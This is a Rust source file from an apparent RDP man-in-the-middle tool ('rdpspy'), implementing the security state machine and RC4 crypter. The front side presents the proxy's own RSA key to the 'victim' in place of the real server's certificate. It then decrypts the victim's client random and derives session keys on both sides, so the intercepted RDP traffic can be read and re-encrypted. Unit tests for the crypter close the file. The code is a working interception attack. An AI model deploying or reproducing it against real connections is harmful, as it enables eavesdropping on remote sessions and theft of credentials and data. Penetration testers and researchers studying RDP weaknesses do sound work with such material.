//! The security state machine and the RC4 crypter proxy.
//!
//! One `SecuritySettings` lives on each side of the proxy. The back side runs
//! in client mode (it generates the client random and encrypts it with the
//! real server's public key); the front side runs in server mode (it decrypts
//! the victim's client random with the proxy's own key). The crypter starts
//! empty and is rekeyed when the derivation completes; using it earlier is a
//! loud error, never a silent no-op.

use rdpspy_pdu::crypto::{
    compute_mac_signature, decrypt_with_private_key, derive_session_keys, encrypt_with_public_key,
    parse_server_certificate, update_session_key, CryptoError, Rc4, RsaPublicKey, SessionKeys, CLIENT_RANDOM_LEN,
    KEY_UPDATE_INTERVAL,
};
use rdpspy_pdu::gcc::{EncryptionMethod, ServerSecurityData};

use crate::{SessionError, SessionResult, Side};

/// Which half of the security exchange this side plays.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SecurityMode {
    /// Acts as the RDP client (the side facing the real server).
    Client,
    /// Acts as the RDP server (the side facing the victim).
    Server,
}

/// Per-side state shared with the layers while traffic is driven through a
/// stack.
pub struct SideShared {
    pub side: Side,
    pub security: SecuritySettings,
}

/// One RC4 stream with its key refresh schedule.
struct Rc4Direction {
    initial_key: Vec<u8>,
    current_key: Vec<u8>,
    rc4: Rc4,
    operations: u64,
}

impl Rc4Direction {
    fn new(key: Vec<u8>) -> Self {
        Self {
            rc4: Rc4::new(&key),
            initial_key: key.clone(),
            current_key: key,
            operations: 0,
        }
    }

    fn process(&mut self, method: EncryptionMethod, data: &[u8]) -> Vec<u8> {
        if self.operations == KEY_UPDATE_INTERVAL {
            self.current_key = update_session_key(&self.initial_key, &self.current_key, method);
            self.rc4 = Rc4::new(&self.current_key);
            self.operations = 0;
        }

        self.operations += 1;
        self.rc4.apply(data)
    }
}

/// The keyed crypter: one RC4 stream per direction plus the MAC key.
pub struct Rc4Crypter {
    method: EncryptionMethod,
    mac_key: Vec<u8>,
    encrypt: Rc4Direction,
    decrypt: Rc4Direction,
}

impl Rc4Crypter {
    fn new(mode: SecurityMode, keys: SessionKeys, method: EncryptionMethod) -> Self {
        let (encrypt_key, decrypt_key) = match mode {
            SecurityMode::Server => (keys.server_encrypt_key, keys.client_encrypt_key),
            SecurityMode::Client => (keys.client_encrypt_key, keys.server_encrypt_key),
        };

        Self {
            method,
            mac_key: keys.mac_key,
            encrypt: Rc4Direction::new(encrypt_key),
            decrypt: Rc4Direction::new(decrypt_key),
        }
    }

    /// Encrypts a payload and returns the ciphertext with the MAC signature
    /// computed over the plaintext.
    pub fn encrypt(&mut self, plaintext: &[u8]) -> (Vec<u8>, [u8; 8]) {
        let mac = compute_mac_signature(&self.mac_key, plaintext);
        let ciphertext = self.encrypt.process(self.method, plaintext);
        (ciphertext, mac)
    }

    /// Decrypts a payload and verifies the MAC signature.
    pub fn decrypt(&mut self, ciphertext: &[u8], mac: &[u8]) -> Result<Vec<u8>, CryptoError> {
        let plaintext = self.decrypt.process(self.method, ciphertext);

        let expected = compute_mac_signature(&self.mac_key, &plaintext);
        if expected.as_slice() != mac {
            return Err(CryptoError::MacMismatch);
        }

        Ok(plaintext)
    }
}

/// The crypter handle the security layers and the fast-path layer share.
///
/// Created empty; rekeyed by the security state machine once the key
/// derivation completes. Holders keep the same handle across rekeys.
#[derive(Default)]
pub struct Rc4CrypterProxy {
    inner: Option<Rc4Crypter>,
}

impl Rc4CrypterProxy {
    pub fn is_keyed(&self) -> bool {
        self.inner.is_some()
    }

    fn rekey(&mut self, crypter: Rc4Crypter) {
        self.inner = Some(crypter);
    }

    pub fn get(&mut self) -> SessionResult<&mut Rc4Crypter> {
        self.inner
            .as_mut()
            .ok_or(SessionError::Protocol("crypter used before keys were derived"))
    }
}

/// The RSA key pair the front side presents to the victim in place of the
/// real server's certificate.
#[derive(Clone)]
pub struct MitmRsaKey {
    pub public: RsaPublicKey,
    modulus_be: Vec<u8>,
    private_exponent_be: Vec<u8>,
}

impl MitmRsaKey {
    pub fn new(public: RsaPublicKey, modulus_be: Vec<u8>, private_exponent_be: Vec<u8>) -> Self {
        Self {
            public,
            modulus_be,
            private_exponent_be,
        }
    }

    fn decrypt(&self, ciphertext: &[u8]) -> Result<Vec<u8>, CryptoError> {
        decrypt_with_private_key(ciphertext, &self.modulus_be, &self.private_exponent_be)
    }
}

impl core::fmt::Debug for MitmRsaKey {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        f.debug_struct("MitmRsaKey").finish_non_exhaustive()
    }
}

/// The per-side security state machine.
pub struct SecuritySettings {
    mode: SecurityMode,
    use_tls: bool,
    encryption_method: EncryptionMethod,
    server_random: Option<Vec<u8>>,
    client_random: Option<Vec<u8>>,
    server_public_key: Option<RsaPublicKey>,
    own_key: Option<MitmRsaKey>,
    crypter: Rc4CrypterProxy,
    /// Whether a basic security header precedes the next payloads (tracked
    /// for the TLS passthrough around licensing).
    pub security_header_expected: bool,
}

impl SecuritySettings {
    pub fn new(mode: SecurityMode) -> Self {
        Self {
            mode,
            use_tls: false,
            encryption_method: EncryptionMethod::empty(),
            server_random: None,
            client_random: None,
            server_public_key: None,
            own_key: None,
            crypter: Rc4CrypterProxy::default(),
            security_header_expected: true,
        }
    }

    pub fn mode(&self) -> SecurityMode {
        self.mode
    }

    pub fn set_use_tls(&mut self, use_tls: bool) {
        self.use_tls = use_tls;
    }

    pub fn use_tls(&self) -> bool {
        self.use_tls
    }

    pub fn encryption_method(&self) -> EncryptionMethod {
        self.encryption_method
    }

    /// Whether RDP standard security is active on this side.
    pub fn is_native(&self) -> bool {
        !self.use_tls && !self.encryption_method.is_empty()
    }

    pub fn set_own_key(&mut self, key: MitmRsaKey) {
        self.own_key = Some(key);
    }

    pub fn own_public_key(&self) -> Option<&RsaPublicKey> {
        self.own_key.as_ref().map(|key| &key.public)
    }

    pub fn crypter(&mut self) -> &mut Rc4CrypterProxy {
        &mut self.crypter
    }

    /// Consumes the security block of the Server Data.
    pub fn server_security_received(&mut self, data: &ServerSecurityData) -> SessionResult<()> {
        if data.encryption_method.contains(EncryptionMethod::FIPS) {
            return Err(SessionError::Unsupported("FIPS encryption"));
        }

        self.encryption_method = data.encryption_method;

        if let Some(random) = data.server_random.as_ref() {
            debug!(mode = ?self.mode, "server security received");
            self.server_random = Some(random.to_vec());
        }

        if self.mode == SecurityMode::Client && !data.encryption_method.is_empty() && !data.server_cert.is_empty() {
            let certificate = parse_server_certificate(&data.server_cert).map_err(SessionError::Crypto)?;
            self.server_public_key = Some(certificate.public_key);
        }

        self.derive_keys_if_ready()
    }

    /// Generates this side's 32-byte client random (client mode).
    pub fn generate_client_random(&mut self) -> SessionResult<()> {
        debug_assert_eq!(self.mode, SecurityMode::Client);

        let mut random = vec![0u8; CLIENT_RANDOM_LEN];
        rand::Rng::fill(&mut rand::thread_rng(), random.as_mut_slice());
        debug!("client random generated");
        self.client_random = Some(random);

        self.derive_keys_if_ready()
    }

    /// Consumes the victim's security exchange (server mode): decrypts the
    /// client random with the proxy's own key.
    pub fn client_random_received(&mut self, encrypted: &[u8]) -> SessionResult<()> {
        debug_assert_eq!(self.mode, SecurityMode::Server);

        let key = self
            .own_key
            .as_ref()
            .ok_or(SessionError::Protocol("security exchange before certificate swap"))?;

        let mut random = key.decrypt(encrypted).map_err(SessionError::Crypto)?;
        random.resize(CLIENT_RANDOM_LEN, 0);
        self.client_random = Some(random);

        self.derive_keys_if_ready()
    }

    /// Encrypts this side's client random with the real server's public key
    /// (client mode), padding included.
    pub fn encrypt_client_random(&self) -> SessionResult<Vec<u8>> {
        let public_key = self
            .server_public_key
            .as_ref()
            .ok_or(SessionError::Protocol("no server public key available"))?;
        let client_random = self
            .client_random
            .as_ref()
            .ok_or(SessionError::Protocol("no client random generated"))?;

        Ok(encrypt_with_public_key(client_random, public_key).map_err(SessionError::Crypto)?)
    }

    fn derive_keys_if_ready(&mut self) -> SessionResult<()> {
        if self.crypter.is_keyed() || self.encryption_method.is_empty() {
            return Ok(());
        }

        let (Some(client_random), Some(server_random)) = (self.client_random.as_ref(), self.server_random.as_ref())
        else {
            return Ok(());
        };

        let keys = derive_session_keys(client_random, server_random, self.encryption_method)
            .map_err(SessionError::Crypto)?;

        debug!(
            mode = ?self.mode,
            method = ?self.encryption_method,
            "session keys derived, rekeying the crypter"
        );

        self.crypter.rekey(Rc4Crypter::new(self.mode, keys, self.encryption_method));

        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn keyed_pair() -> (SecuritySettings, SecuritySettings) {
        let client_random = vec![0x11u8; CLIENT_RANDOM_LEN];
        let server_random = vec![0x22u8; CLIENT_RANDOM_LEN];

        let mut front = SecuritySettings::new(SecurityMode::Server);
        front.encryption_method = EncryptionMethod::BIT_128;
        front.client_random = Some(client_random.clone());
        front.server_random = Some(server_random.clone());
        front.derive_keys_if_ready().unwrap();

        let mut back = SecuritySettings::new(SecurityMode::Client);
        back.encryption_method = EncryptionMethod::BIT_128;
        back.client_random = Some(client_random);
        back.server_random = Some(server_random);
        back.derive_keys_if_ready().unwrap();

        (front, back)
    }

    #[test]
    fn crypter_fails_loudly_before_keys_exist() {
        let mut settings = SecuritySettings::new(SecurityMode::Server);
        assert!(settings.crypter().get().is_err());
    }

    #[test]
    fn client_and_server_streams_interoperate() {
        let (mut front, mut back) = keyed_pair();

        // The server side (front) encrypts, the client side (back) decrypts.
        let (ciphertext, mac) = front.crypter().get().unwrap().encrypt(b"output pdu");
        let plaintext = back.crypter().get().unwrap().decrypt(&ciphertext, &mac).unwrap();
        assert_eq!(plaintext, b"output pdu");

        // And the other way round.
        let (ciphertext, mac) = back.crypter().get().unwrap().encrypt(b"input pdu");
        let plaintext = front.crypter().get().unwrap().decrypt(&ciphertext, &mac).unwrap();
        assert_eq!(plaintext, b"input pdu");
    }

    #[test]
    fn corrupted_mac_is_rejected() {
        let (mut front, mut back) = keyed_pair();

        let (ciphertext, mut mac) = front.crypter().get().unwrap().encrypt(b"payload");
        mac[0] ^= 0xFF;

        assert!(back.crypter().get().unwrap().decrypt(&ciphertext, &mac).is_err());
    }

    #[test]
    fn rc4_streams_are_stateful_across_pdus() {
        let (mut front, mut back) = keyed_pair();

        for i in 0..8u8 {
            let message = vec![i; 16];
            let (ciphertext, mac) = front.crypter().get().unwrap().encrypt(&message);
            let plaintext = back.crypter().get().unwrap().decrypt(&ciphertext, &mac).unwrap();
            assert_eq!(plaintext, message);
        }
    }
}
